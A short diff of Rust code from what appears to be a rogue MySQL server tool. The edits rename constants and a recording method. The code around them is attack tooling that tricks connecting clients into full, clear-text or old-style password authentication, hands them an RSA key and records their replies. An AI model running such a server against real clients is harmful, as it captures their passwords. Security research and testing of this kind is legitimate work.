@@ -13,9 +13,9 @@ use crate::protocol::{read_packet, write_packet};
 /// First byte of an `AuthMoreData` packet, which contains additional authentication data.
 const AUTH_MORE_DATA: u8 = 1;
 /// Status byte in `caching_sha2_password` that requests full authentication, in which the client sends the password.
-const PERFORM_FULL_AUTHENTICATION: u8 = 4;
+const PERFORM_FULL_AUTHENTICATION_STATUS: u8 = 4;
 /// Packets with which clients request the server's RSA key: in `caching_sha2_password` and in `sha256_password`.
-const RSA_KEY_REQUESTS: [&[u8]; 2] = [&[2], &[1]];
+const RSA_KEY_REQUEST_PACKETS: [&[u8]; 2] = [&[2], &[1]];
 
 /// Returns the name of the authentication plugin advertised in the greeting packet.
 pub(super) fn default_auth_plugin(mode: &RogueAttack) -> &'static str {
@@ -33,7 +33,7 @@ pub(super) async fn complete_authentication<S: AsyncRead + AsyncWrite + Unpin>(
     recording: &ClientRecording,
 ) -> io::Result<()> {
     let request = match mode {
-        RogueAttack::FullAuthentication => Some(vec![AUTH_MORE_DATA, PERFORM_FULL_AUTHENTICATION]),
+        RogueAttack::FullAuthentication => Some(vec![AUTH_MORE_DATA, PERFORM_FULL_AUTHENTICATION_STATUS]),
         RogueAttack::ClearPassword => Some(encode_auth_switch_request("mysql_clear_password")),
         RogueAttack::OldPassword => Some(encode_auth_switch_request("mysql_old_password")),
         RogueAttack::Sha256Password => Some(encode_auth_switch_request("sha256_password")),
@@ -57,13 +57,13 @@ async fn exchange_authentication_data<S: AsyncRead + AsyncWrite + Unpin>(
     write_packet(stream, sequence.wrapping_add(1), request).await?;
     stream.flush().await?;
     let (mut sequence, mut response) = read_packet(stream).await?;
-    recording.record_packet(response.clone());
-    if RSA_KEY_REQUESTS.contains(&response.as_slice()) {
+    recording.append_client_packet(response.clone());
+    if RSA_KEY_REQUEST_PACKETS.contains(&response.as_slice()) {
         let key = [&[AUTH_MORE_DATA], PUBLIC_KEY_PEM.as_bytes()].concat();
         write_packet(stream, sequence.wrapping_add(1), &key).await?;
         stream.flush().await?;
         (sequence, response) = read_packet(stream).await?;
-        recording.record_packet(response);
+        recording.append_client_packet(response);
     }
     Ok(sequence)
 }
